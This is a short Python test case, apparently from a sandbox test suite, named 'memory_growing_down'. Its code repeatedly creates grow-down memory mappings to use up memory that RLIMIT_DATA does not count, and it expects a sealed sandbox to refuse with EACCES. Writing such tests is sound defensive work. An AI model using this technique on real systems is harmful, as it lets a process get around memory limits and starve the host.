# attack: memory_growing_down
# does: takes memory by mappings that grow, which RLIMIT_DATA does not count
# sealed: EACCES
# control: through
# as: root, user

from __future__ import annotations

from attack_world import (
    MAP_FIXED,
    MAP_GROWSDOWN,
    MAP_PRIVATE,
    PAGE,
    PIECE,
    PROT_NONE,
    PROT_READ,
    PROT_WRITE,
    World,
    fill,
    map_memory,
    unmap,
)


def attack(world: World) -> object:
    for _ in range(world.amount // PIECE):
        top = map_memory(PIECE, PROT_NONE, MAP_PRIVATE) + PIECE - PAGE
        flags = MAP_PRIVATE | MAP_FIXED | MAP_GROWSDOWN
        unmap(top - PIECE + PAGE, PIECE - PAGE)
        map_memory(PAGE, PROT_READ | PROT_WRITE, flags, top)
        fill(top - PIECE // 2, PIECE // 2)
    return world.amount // 2
